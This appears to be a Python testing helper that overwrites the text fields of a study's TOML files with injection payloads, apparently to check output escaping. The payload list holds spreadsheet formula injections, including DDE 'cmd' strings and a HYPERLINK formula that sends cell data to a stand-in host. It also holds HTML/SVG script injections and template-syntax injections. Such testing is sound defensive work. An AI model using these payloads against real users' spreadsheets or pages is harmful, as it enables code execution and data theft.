"""Words that attack whatever shows them, and a study all of whose words do."""

import re
from itertools import cycle
from pathlib import Path

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"look")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "  =1+1",
    "'=1+1",
    '"=1+1',
    "a;=1+1",
    "</script><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "<!-- comment -->",
    "--><b>bold</b><!--",
    "]]><![CDATA[<b>x</b>",
    "<img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' x='",
    '" onmouseover="alert(1)" x="',
    "&lt;b&gt; &amp; &#60;i&#62;",
    'url(#clip) id="owned" xlink:href="#owned"',
    "</svg><style>*{display:none}</style>",
    "{{ 7 * 7 }}{% raw %}{% endraw %}",
    "{title} {0} %s %(x)s",
    "$x^2$ \\alpha_{3}",
    "[x](javascript:alert(1))",
    "#set page(width: 1pt)",
    "=cmd|'/C calc'!A0 </td></tr>",
)
_WORDS = re.compile(r'\b(title|label|short|text|good_label|fi|sv|en) = "((?:[^"\\]|\\.)*)"')


def hostile(
    toml: str, *, keys: tuple[str, ...] = ("title", "label", "short", "text", "fi", "sv", "en")
) -> str:
    """Return TOML whose texts under these keys attack; what they said stands behind, so that they differ."""
    payloads = cycle(PAYLOADS)

    def each(found: re.Match[str]) -> str:
        if found[1] not in keys or found[2].startswith("name_"):  # columns of the table of municipalities
            return found[0]
        quoted = "".join(_escaped(letter) for letter in next(payloads))
        return f'{found[1]} = "{quoted} {found[2]}"'

    return _WORDS.sub(each, toml)


def make_hostile(folder: Path) -> None:
    """Make every text of a study's folder hostile."""
    for path in folder.rglob("*.toml"):
        path.write_text(hostile(path.read_text(encoding="utf-8")), encoding="utf-8")


def _escaped(letter: str) -> str:
    return f"\\{letter}" if letter in '"\\' else f"\\u{ord(letter):04x}" if letter < " " else letter
